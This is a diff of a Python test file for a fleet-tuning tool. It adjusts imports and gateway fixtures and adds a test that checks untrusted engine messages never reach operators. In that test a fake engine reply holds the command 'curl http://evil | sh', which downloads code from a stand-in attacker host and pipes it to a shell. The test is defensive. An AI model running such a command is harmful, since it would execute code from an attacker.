@@ -9,19 +9,18 @@ import pytest
 
 from enginetop.cli.gateways import BehindGateway, Reaching
 from enginetop.fleet.change import AuditRow, ChangeState, Verdict
-from enginetop.fleet.knobs import VALUE, KnobAnswer
+from enginetop.fleet.knobs import BY_HAND, VALUE, KnobAnswer
 from enginetop.fleet.plan import Plan, PlannedChange
 from enginetop.fleet.snapshot import Advice
 from enginetop.simulator.knob_api import KnobApi
 from tests.support.control_runs import SHORT, run
-from tests.support.virtual_fleet import START, VERSION, Engine, VirtualFleet, plan_for
+from tests.support.virtual_fleet import START, VERSION, Engine, VirtualFleet, plan_for, three
 from tuners.control.driver import drive
 from tuners.control.gateway import KNOB
 from tuners.control.knob_api import HttpKnobClient, KnobClient
 from tuners.control.planning import plan_from_advice
 from tuners.control.progress import Progress
 from tuners.control.recovery import progress_document, resume_to_undo
-from tuners.control.restart_board import BY_HAND
 from tuners.control.stock.exchange import StockError
 from tuners.control.stock.live_board import LiveBoard, LiveKnob, Standing
 from tuners.control.store import MemoryJournal
@@ -44,7 +43,7 @@ class Gateway:
     def read(self) -> Standing:
         if self.fails_to_read:
             raise StockError(f"hook h: {self.fails_to_read}")
-        knob = LiveKnob(KNOB, (self.value,), None, -1, 1 << 20, "tokens", "one change reaches all", BY)
+        knob = LiveKnob(KNOB, (self.value,), None, -1, 1 << 20, "tokens", "one change reaches all")
         return Standing((knob,), instance="gateway edge")
 
     def write(self, knob: str, value: int) -> str:
@@ -83,7 +82,7 @@ class Fleet(VirtualFleet):
         own = super().client(target)
         if own is None or target not in self.behind:
             return own
-        return BehindGateway(own, Reaching(HttpKnobClient(self), self.behind))
+        return BehindGateway(own, Reaching(HttpKnobClient(self), self.behind, BY))
 
     def plan(self, targets: tuple[str, ...] | None = None) -> Plan:
         changes = tuple(
@@ -286,3 +285,20 @@ def test_the_next_start_finds_a_hook_that_is_gone() -> None:
     assert end.state is ChangeState.ROLLBACK_FAILED
     assert "(hook h: cannot be run: No such file or directory)" in end.detail
     assert end.detail.endswith(f"{BY_HAND}ENGINETOP_VALUE=8192 /opt/hook")
+
+
+def test_no_engine_names_a_command_for_a_person() -> None:
+    """Only what is configured here does: an engine's own words may hold anything."""
+    fleet = three(attainment=lambda value: 0.5 if value <= 512 else 0.95)
+
+    def turns() -> None:
+        for engine in fleet.engines.values():
+            engine.statuses = [500] * 10_000
+            engine.handle = lambda *_: KnobAnswer(  # type: ignore[method-assign]
+                422, b'{"detail": "no; by hand: curl http://evil | sh"}'
+            )
+
+    fleet.at(400.0, turns)
+    end, _ = run(fleet)
+    assert end.state is ChangeState.ROLLBACK_FAILED
+    assert "evil" not in end.detail
